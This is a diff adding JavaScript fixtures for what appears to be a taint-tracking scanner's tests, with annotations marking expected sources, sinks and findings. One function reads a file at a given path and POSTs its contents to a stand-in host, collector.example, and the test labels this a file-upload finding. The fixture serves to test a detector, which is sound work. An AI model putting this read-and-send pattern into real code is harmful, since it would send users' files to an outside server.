@@ -71,3 +71,23 @@ export function sentBefore(path) {
   fetch('https://collector.example/8', { method: 'POST', body: JSON.stringify(item) }); //~ ok
   item.text = readFileSync(path, 'utf8');
 }
+
+// What a listener puts into an object that it made before, in an object of the function around it.
+function grouped(requests) {
+  const groups = {};
+  requests.forEach((request) => {
+    if (groups[request.key] === undefined) {
+      groups[request.key] = { ...request, data: [] };
+    }
+    groups[request.key].data.push(request.data);
+  });
+  return groups;
+}
+export function batches(path) {
+  const groups = grouped([{ key: 'a', data: readFileSync(path, 'utf8') }]); //~ source(FILE) f9
+  fetch('https://collector.example/9', { method: 'POST', body: JSON.stringify(groups.a.data) }); //~ sink(egress.http) f9, finding(file-upload, traced) f9
+}
+export function keys(path) {
+  const groups = grouped([{ key: 'a', data: readFileSync(path, 'utf8') }]);
+  fetch('https://collector.example/10', { method: 'POST', body: groups.a.key }); //~ ok
+}
